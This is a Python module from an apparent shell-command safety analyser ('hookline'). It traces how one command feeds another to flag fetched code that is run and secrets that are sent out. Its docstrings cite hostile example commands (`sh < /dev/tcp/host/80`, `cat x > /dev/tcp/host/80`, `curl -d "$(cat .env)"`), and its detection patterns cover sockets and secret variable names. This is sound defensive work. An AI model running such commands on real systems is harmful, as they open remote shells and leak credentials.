"""What passes from one command of a line to another: code that was fetched and is run, secrets that are sent."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence

from hookline.model.record import replace
from hookline.shell.effects.acts import Deeds, Effect
from hookline.shell.effects.made_of import is_made_of, is_of_project
from hookline.shell.effects.places import is_secret
from hookline.shell.effects.remade import COMPILERS, EVALUATED, path_name, scripts_of
from hookline.shell.effects.secrets import connects, names_alone, reads_secret, sends_key
from hookline.shell.reading import NAMED, Word, below
from hookline.shell.values.state import INPUT
from hookline.system.patterns.late import late

MOST = 50  # commands of a line whose output is followed
LONGEST_PIPE = 4_000  # letters between the ends of a pipe
_ODD = late(r"[{}()'\"]")
_SEPARATORS = (";", "\n", "&&", "||")
_BACKGROUND = r"(?<![&<>|\\])&(?![&>\d])"
# Of a group, each command may be the one that prints, or reads: `{ date; cat x; } | { read a; sh; }`.
_PASSED = late(r"(?:^|(?<=[{}()|]))[^{}()|]*[)}][^{}()|]*\|(?!\|)|\|(?!\|)\s*[({][^{}()|]*$")


def with_flows(found: Sequence[Deeds], line: str) -> list[Deeds]:
    """The deeds of a line, with `download-and-run` and `expose` where one command feeds another."""
    if not any(
        _fetches(each) or reads_secret(each) or connects(each) or "loads" in each.marks or any(_clones(each))
        for each in found
    ):
        return list(found)
    flows = _Flows(found, line)
    judged = [flows.judged(at) for at in range(len(found))]
    if re.search(_BACKGROUND, line):  # what was started first may wait for what is written later
        judged = [flows.judged(at) for at in range(len(found))]
    return [
        replace(each, effects=tuple(names_alone(each.effects))) if flows.shows_names(at) else each
        for at, each in enumerate(judged)
    ]


class _Flows:
    """One walk over the commands of a line, which remembers what was fetched into files, and which hold secrets."""

    def __init__(self, found: Sequence[Deeds], line: str) -> None:
        self._found = found
        self._line = line
        self._sources = [
            (at, each)
            for at, each in enumerate(found)
            if _fetches(each) or reads_secret(each) or "archives" in each.marks
        ][:MOST]
        self._fetched: set[str] = set()
        self._unpacked: set[str] = set()  # folders in which lies what was in a fetched archive
        self._cloned: set[str] = set()
        self._builds = False  # something was built before, which ran what was cloned anyway
        self._new: set[str] = set()  # files that hold nothing but what was fetched
        self._tainted: set[str] = set()
        self._loaded: list[Effect] = []  # files of secrets whose values are in variables by now
        self._held: set[str] = set()  # substitutions that print secrets, as variables hold them
        self._open: set[str] = set()  # descriptors that lead to another host
        stands: dict[object, int] = {}
        self._stands = [stands.setdefault(_place_of(each), len(stands)) for each in found]
        self._told: dict[object, bool] = {}

    def judged(self, at: int) -> Deeds:
        """One command, and what it passes on kept in mind."""
        each = self._found[at]
        each = self._shown(each)
        self._cloned.update(_clones(each))
        self._builds |= is_of_project(each.given)
        if not self._sources:
            return self._listening(each)
        if self._tainted and len(self._sources) < MOST and self._is_secret(each):
            self._sources.append((at, each))
        before = [(place, other) for place, other in self._sources if place < at]
        feeding = [other for place, other in before if self._known(_piped, place, at)]
        within = [other for place, other in self._sources if place != at and self._known(_inside, place, at)]
        more = [Effect("download-and-run")] * self._runs_fetched(each, feeding, within)
        if not more and (
            self._runs_unpacked(each) or is_made_of(each.given, scripts_of(each), self._fetched)
        ):
            more = [
                Effect("download-and-run", certain=False)
            ]  # the archive, or the program, need not have it
        self._remember(each)
        if self._sends_secret(each, feeding, within):
            more.append(Effect("expose"))
        elif self._may_send_secret(each, feeding, at):
            more.append(Effect("expose", certain=False))
        each = self._without_new(each)
        written = list(_names_of("write", each))
        if each.given.path in _TO_FILES and not each.command.redirections:
            self._new.update(written)
        carries = not self._fetched.isdisjoint(_names_of("read", each))  # `mv`, `gunzip`
        if carries or any(_fetches(other) for other in (each, *feeding)) or self._compiles_fetched(each):
            self._fetched.update(written)
        fetched = carries or "download" in each.marks or any(map(_fetches, feeding))
        if "spread" in each.marks and fetched:
            self._unpacked.update(_names_of("write", each, below_only=True))
        if any(map(self._is_secret, (each, *feeding, *within))):
            self._tainted.update(written)
        return replace(each, effects=(*each.effects, *more)) if more else each

    def shows_names(self, at: int) -> bool:
        """Whether all that a command prints of secrets goes to one that keeps names alone (`cat x | cut -d= -f1`)."""
        each = self._found[at]
        if not reads_secret(each) or any(other.fd != 2 for other in each.command.redirections):
            return False
        for place, other in enumerate(self._found[at + 1 :], at + 1):
            if not self._known(_piped, at, place):
                return False
            if "names" in other.marks:
                return True
            if other.given.path not in _PASS_ON or other.command.redirections:
                return False
        return False

    def _shown(self, each: Deeds) -> Deeds:
        """A command that prints variables reads the files of secrets that were loaded into them."""
        if "loads" in each.marks:
            self._loaded += _loaded_by(each)
        sets = each.given.path == ("export",) and each.given.operands
        shows = self._loaded and (("dumps" in each.marks and not sets) or self._prints_secret(each))
        return replace(each, effects=(*each.effects, *self._loaded)) if shows else each

    def _prints_secret(self, each: Deeds) -> bool:
        """`echo $API_KEY` on the terminal: what goes on to a program or a file is not seen."""
        if each.given.path not in _ECHOES or each.command.redirections or each.command.via:
            return False
        rest = self._line[each.command.end :].lstrip(" )}")
        piped = rest.startswith("|") and not rest.startswith("||")
        return not piped and any(
            _SECRET_NAME.search(hole.text) for word in each.command.words for hole in word.holes
        )

    def _listening(self, each: Deeds) -> Deeds:
        if "sends-words" in each.marks and sends_key(each):
            return replace(each, effects=(*each.effects, Effect("expose")))
        certain = self._runs_fetched(each, (), ())
        if not certain and not self._runs_unpacked(each):
            return each
        return replace(each, effects=(*each.effects, Effect("download-and-run", certain=certain)))

    def _known(self, told: Callable[[Deeds, Deeds, str], bool], first: int, second: int) -> bool:
        """What is told of two commands by where they stand: each round of a loop stands in the same place."""
        key = (told, self._stands[first], self._stands[second])
        found = self._told.get(key)
        if found is None:
            found = self._told[key] = told(self._found[first], self._found[second], self._line)
        return found

    def _without_new(self, each: Deeds) -> Deeds:
        """Without the removal of what the line has fetched: `curl -o a.tgz …; tar xf a.tgz; rm a.tgz`.

        A folder is not fetched so, and `rm -r` may mean one.
        """
        if each.given.path != ("rm",) or each.given.has("-r"):
            return each
        kept = tuple(effect for effect in each.effects if effect.name != "delete" or not self._is_new(effect))
        return replace(each, effects=kept) if len(kept) < len(each.effects) else each

    def _is_new(self, effect: Effect) -> bool:
        return effect.target is not None and path_name(below(effect.cwd, effect.target)) in self._new

    def _runs_fetched(self, each: Deeds, feeding: Sequence[Deeds], within: Sequence[Deeds]) -> bool:
        if self._fetched & set(scripts_of(each)):
            return True
        if "stdin" in each.marks and (
            _from_socket(each) or any("download" in other.marks for other in feeding)
        ):
            return True
        fed = _INPUTS.intersection(scripts_of(each)) or ("code" in each.marks and _is_told_words(each))
        if fed and any("download" in other.marks for other in feeding):
            return True
        takes = {"stdin", "code", "script"} & each.marks or each.given.path[:1] in EVALUATED
        takes = takes or (each.given.row is not None and "install" in each.given.row.does)
        return bool(takes) and any("download" in other.marks and _is_text_of(other, each) for other in within)

    def _compiles_fetched(self, each: Deeds) -> bool:
        sources = each.given.operands if self._fetched and each.given.path in COMPILERS else ()
        return any(path_name(below(each.command.cwd, word)) in self._fetched for word in sources)

    def _runs_unpacked(self, each: Deeds) -> bool:
        names = list(scripts_of(each)) if self._unpacked or self._cloned else []
        own = [name for name in names if not (_BUILDS.search(name) or (self._builds and _MADE.search(name)))]
        return any(_lies_in(name, self._unpacked) for name in names) or any(
            _lies_in(name, self._cloned) for name in own
        )

    def _sends_secret(self, each: Deeds, feeding: Sequence[Deeds], within: Sequence[Deeds]) -> bool:
        if any(map(self._is_secret, within)) and each.marks & {"sends", "sends-words"}:
            return True
        writes_to_host = _to_socket(each) or any(
            redirection.target is not None and redirection.target.literal in self._open
            for redirection in each.command.redirections
            if redirection.operator == ">&"
        )
        writes_to_host = writes_to_host or ("1" in self._open and not each.command.redirections)
        sends = "sends" in each.marks or writes_to_host
        if (
            self._held
            and each.marks & {"sends", "sends-words"}
            and not self._held.isdisjoint(_holds_of(each))
        ):
            return True
        if bool(sends) and any(map(self._is_secret, (each, *feeding))):
            return True
        if "sends-words" in each.marks and _is_told_words(each) and any(map(self._is_secret, feeding)):
            return True
        return bool(sends or "sends-words" in each.marks) and sends_key(each)

    def _remember(self, each: Deeds) -> None:
        """The secrets and connections that variables and descriptors hold from here on."""
        if each.given.path == ("exec",) and connects(each):
            shown = (("1" if ">" in each.operator else "0", each.fd) for each in each.command.redirections)
            self._open.update(usual if fd is None else str(fd) for usual, fd in shown)
        step = each.command.via[-1] if each.command.via else None
        if step is not None and step.how in ("$(…)", "`…`") and self._is_secret(each):
            self._held.add(self._line[step.start : step.end])

    def _may_send_secret(self, each: Deeds, feeding: Sequence[Deeds], at: int) -> bool:
        """Whether a secret may be in what it sends: in an archive, in one text of code, or line by line."""
        if "download" in each.marks and any("archives" in other.marks for other in feeding):
            return True
        if "sends" not in each.marks:
            return False
        in_code = each.given.path[:1] == ("python:connect",)
        whys = {hole.why for word in each.command.words for hole in word.holes}
        fed = any(why in (INPUT, NAMED) or why.endswith(" reads it") for why in whys)
        name = each.given.path[0]
        return any(
            (in_code and other.command.via == each.command.via)
            or (other.given.path == ("python:read",) and other.command.via[-1].how.startswith(name))
            or (fed and place < at and other.given.path in ((), ("xargs",)))
            for place, other in self._sources
            if place != at and self._is_secret(other)
        )

    def _is_secret(self, deeds: Deeds) -> bool:
        if "link" in deeds.marks and any(
            is_secret(below(deeds.command.cwd, word)) for word in deeds.given.operands
        ):
            return True
        return reads_secret(deeds) or any(
            name in self._tainted or any(_lies_in(other, {name}) for other in self._tainted)
            for name in (_names_of("read", deeds) if self._tainted else ())
        )


# What a clone is built with is trusted as far as `make` is.
_BUILDS = late(r"(?:^|/)(?:configure|config|autogen\.sh|bootstrap(?:\.sh)?|gradlew|mvnw|setup\.py)$")
_MADE = late(r"(?:^|/)(?:dist|build|out|target|node_modules|\.?venv)/")
_SOCKETS = ("/dev/tcp/", "/dev/udp/")
_TO_FILES = frozenset((("curl",), ("wget",)))
_CLONERS = (("git", "clone"), ("git", "submodule", "add"), ("gh", "repo", "clone"))
_INPUTS = frozenset(("/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"))
_PASS_ON = frozenset((("grep",), ("sort",), ("uniq",), ("head",), ("tail",)))  # to their output alone
_ECHOES = frozenset((("echo",), ("printf",)))
_SECRET_NAME = late(r"^\$\{?\w*(?:SECRET|TOKEN|PASS|KEY|CRED|PRIVATE|_URL|DSN)", re.IGNORECASE)


def _holds_of(deeds: Deeds) -> Iterator[str]:
    return (hole.text for word in deeds.command.words for hole in word.holes)


def _loaded_by(deeds: Deeds) -> Iterator[Effect]:
    """The files of secrets whose variables the commands behind get, as what is read."""
    for effect in deeds.effects:
        if (
            effect.name == "loads"
            and effect.target is not None
            and is_secret(below(effect.cwd, effect.target))
        ):
            yield replace(effect, name="read")


def _clones(deeds: Deeds) -> Iterator[str]:
    """The folder into which a repository is fetched from elsewhere."""
    given = deeds.given
    if given.path not in _CLONERS or not given.operands:
        return
    source = given.operands[0]
    shown = "".join(part if isinstance(part, str) else "" for part in source.parts)
    if given.path[0] == "git" and not re.search(r"://|^[\w.-]+@|^[\w-]+\.[\w.-]+:", shown):
        return
    name = shown.rstrip("/").rpartition("/")[2].rpartition(":")[2].removesuffix(".git")
    folder = given.operands[1] if len(given.operands) > 1 else Word((name,), source.start, source.end)
    if folder.literal != "":
        yield path_name(below(deeds.command.cwd, folder))


def _lies_in(name: str, folders: set[str]) -> bool:
    return any(
        name.startswith(f"{folder}/") if folder else not name.startswith(("/", "$", "~"))
        for folder in folders
    )


def _is_told_words(deeds: Deeds) -> bool:
    """`base64 -d x | xargs python3 -c`: what is read becomes the words of a command."""
    return any(step.how.startswith(("xargs", "parallel")) for step in deeds.command.via)


def _from_socket(deeds: Deeds) -> bool:
    """`sh < /dev/tcp/host/80`; a program that is told a host reads its own commands."""
    return any(
        each.target is not None and each.target.prefix.startswith(_SOCKETS)
        for each in deeds.command.redirections
    )


def _to_socket(deeds: Deeds) -> bool:
    """`cat x > /dev/tcp/host/80`; what a program that talks to a host prints stays here otherwise."""
    return any(
        each.target is not None and each.target.prefix.startswith(_SOCKETS)
        for each in deeds.command.redirections
    )


def _fetches(deeds: Deeds) -> bool:
    return "download" in deeds.marks or ("sends" in deeds.marks and connects(deeds))


def _common(first: Deeds, second: Deeds) -> int:
    """How many steps two commands have in common: those into one function, or one text of code."""
    level = 0
    for one, other in zip(first.command.via, second.command.via, strict=False):
        if one != other:
            break
        level += 1
    return level


def _span(deeds: Deeds, level: int) -> tuple[int, int]:
    """Where a command stands in the line or in code; one that is further inside stands where that does."""
    command = deeds.command
    further = command.via[level:]
    step = next((s for s in further if s.end and not s.how.startswith(("$(", "`", "<(", ">("))), None)
    if step is None:
        return command.start, command.end
    return min(step.start, command.start), max(step.end, command.end)


def _place_of(deeds: Deeds) -> object:
    """Where a command and its words stand, of which loops and functions have several."""
    command = deeds.command
    words = tuple((word.start, word.end) for word in command.words[1:])
    fed = command.stdin is not None and bool(command.stdin.holes)
    return command.start, command.end, command.via, words, fed


def _piped(first: Deeds, second: Deeds, line: str) -> bool:
    """Whether a command's output reaches another by pipes alone."""
    level = _common(first, second)
    end, start = _span(first, level)[1], _span(second, level)[0]
    if level and end > start:  # in text that stands nowhere in the line
        return second.command.stdin is not None and bool(second.command.stdin.holes)
    if start - end > LONGEST_PIPE:
        return False
    between = line[end:start]
    if end > start or "|" not in between:
        return False
    if not _ODD.search(between):  # as most is, and there is much of it in a long line
        return not any(mark in between for mark in _SEPARATORS)
    plain = "".join(between.replace('"', "'").split("'")[::2])
    return not any(mark in _PASSED.sub("|", plain) for mark in _SEPARATORS)


def _inside(inner: Deeds, outer: Deeds, line: str) -> bool:
    """Whether a command stands in a word of another: `curl -d "$(cat .env)"`."""
    if inner.command.via == outer.command.via or not inner.command.via:
        return False
    return any(word.start <= inner.command.start < word.end for word in outer.command.words[1:])


def _is_text_of(inner: Deeds, outer: Deeds) -> bool:
    """Whether what it prints becomes a part of the word, and it is not itself a part of the code that the word is."""
    further = inner.command.via[_common(inner, outer) :]
    return bool(further) and further[0].how.startswith(("$(", "`", "<("))


def _names_of(effect: str, deeds: Deeds, below_only: bool = False) -> Iterator[str]:
    for each in deeds.effects:
        if each.name == effect and each.target is not None and (each.below or not below_only):
            yield path_name(below(each.cwd, each.target))
